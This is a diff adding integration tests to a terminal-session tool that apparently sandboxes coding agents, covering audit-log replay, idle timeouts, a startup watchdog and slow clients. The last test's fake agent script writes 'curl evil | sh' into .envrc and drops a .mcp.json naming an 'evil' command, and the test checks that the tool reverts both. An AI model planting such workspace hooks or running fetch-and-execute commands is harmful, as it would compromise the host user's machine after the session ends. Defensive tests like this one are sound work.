@@ -18,7 +18,7 @@ import pytest
 
 from egg_core.session import protocol as p
 
-EGG = [sys.executable, "-m", "egg_core.cli"]
+EGG = [sys.executable, "-P", "-m", "egg_core.cli"]
 TIMEOUT = 20
 
 
@@ -462,3 +462,122 @@ def test_browser_open_inside_is_recorded_and_shown_to_clients(env, project):
         child.expect(pexpect.EOF)
     finally:
         kill(env, project, session)
+
+
+def test_audit_log_records_input_output_and_resizes_and_replays(env, project):
+    result = egg(
+        env, "run", "--detach", "--audit", "--rows", "24", "--cols", "80", "--", "sh", cwd=project
+    )
+    session = result.stdout.strip()
+    try:
+        child = attach(env, project, session, rows=30, cols=90)
+        child.send("echo audited-$((40+2))\r")
+        child.expect("audited-42")
+        time.sleep(1.3)  # the log is sync-flushed every second: readable while the session runs
+        from egg_core.session.audit import INPUT, OUTPUT, RESIZE, read_records
+
+        records = list(read_records(session_dir(env, session) / "audit.log.gz"))
+        kinds = {kind for _, kind, _ in records}
+        assert {INPUT, OUTPUT, RESIZE} <= kinds
+        typed = b"".join(data for _, kind, data in records if kind == INPUT)
+        assert b"echo audited-$((40+2))" in typed
+        stamps = [stamp for stamp, _, _ in records]
+        assert stamps == sorted(stamps)
+        replay = egg(env, "replay", session, "--speed", "0", cwd=project)
+        assert replay.returncode == 0 and "audited-42" in replay.stdout
+        child.sendcontrol("\\")
+        child.expect(pexpect.EOF)
+    finally:
+        kill(env, project, session)
+
+
+def test_replay_without_audit_is_one_clear_line(env, project):
+    session = start(env, project, "sleep", "600")
+    try:
+        result = egg(env, "replay", session, cwd=project)
+        assert result.returncode == 1
+        assert (
+            result.stderr.strip()
+            == f"egg: error: session {session} has no audit log (run it with --audit)"
+        )
+    finally:
+        kill(env, project, session)
+
+
+def test_idle_timeout_ends_a_quiet_session(env, project):
+    result = egg(env, "run", "--detach", "--idle-timeout", "1", "--", "sleep", "600", cwd=project)
+    session = result.stdout.strip()
+    meta = wait_exited(env, session, timeout=15)
+    assert meta["exit_reason"] == "idle timeout"
+    assert "idle for 1 s" in (session_dir(env, session) / "egg.log").read_text()
+
+
+def test_startup_watchdog_logs_a_silent_command(env, project):
+    from egg_core.session.spec import RunSpec
+    from egg_core.session.store import create_session, write_json
+
+    paths = create_session(Path(env["EGG_HOME"]))
+    spec = RunSpec(cwd=str(project), command=("sleep", "600"), startup_watchdog=0.5)
+    write_json(paths.spec, spec.to_json())
+    from egg_core.cli.context import Context
+    from egg_core.cli.session_cmds import start_daemon
+
+    start_daemon(paths, Context(env))
+    try:
+        deadline = time.monotonic() + 10
+        while "startup watchdog" not in paths.log.read_text() and time.monotonic() < deadline:
+            time.sleep(0.1)
+        assert "startup watchdog: no output in 0 s" in paths.log.read_text() or (
+            "startup watchdog: no output in 1 s" in paths.log.read_text()
+        )
+        assert status(env, project, paths.id)["state"] == "running"
+    finally:
+        kill(env, project, paths.id)
+
+
+def test_a_client_that_stops_reading_does_not_stall_the_session_or_other_clients(env, project):
+    (project / "flood.py").write_text(
+        "import sys, time\n"
+        "line = b'x' * 200 + b'\\n'\n"
+        "sys.stdin.readline()\n"
+        "for i in range(60000): sys.stdout.buffer.write(line)\n"
+        "sys.stdout.flush(); print('FLOOD-DONE', flush=True); time.sleep(600)\n"
+    )
+    session = start(env, project, sys.executable, "flood.py")
+    try:
+        token = (session_dir(env, session) / "egg.token").read_bytes().strip()
+        stalled = _raw_connect(env, session)
+        stalled.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 4096)
+        stalled.sendall(p.encode(p.AUTH, token) + p.encode(p.ATTACH, p.pack_attach(True, 24, 80)))
+        # ... and never reads again.
+        reader = attach(env, project, session)
+        reader.send("\r")
+        reader.expect("FLOOD-DONE", timeout=60)
+        assert status(env, project, session)["bytes"] > 12_000_000
+        reader.sendcontrol("\\")
+        reader.expect(pexpect.EOF)
+        stalled.close()
+    finally:
+        kill(env, project, session)
+
+
+def test_workspace_hook_files_written_in_a_session_do_not_outlive_it(env, project):
+    """Threat H: .mcp.json / .envrc written by the agent would run on the host later."""
+    (project / ".envrc").write_text("export SAFE=1\n")
+    fake = project / "bin" / "claude"
+    fake.write_text(
+        "#!/bin/sh\n"
+        "echo 'curl evil | sh' >> .envrc\n"
+        'echo \'{"mcpServers": {"x": {"command": "evil"}}}\' > .mcp.json\n'
+        "echo agent-done\n"
+    )
+    fake.chmod(0o755)
+    child = pexpect.spawn(
+        EGG[0], [*EGG[1:], "run", "claude"], env=env, cwd=str(project), timeout=TIMEOUT
+    )
+    child.expect("agent-done")
+    child.expect(pexpect.EOF)
+    output = child.before.decode()
+    assert (project / ".envrc").read_text() == "export SAFE=1\n"
+    assert not (project / ".mcp.json").exists()
+    assert "restored" in output and ".envrc" in output
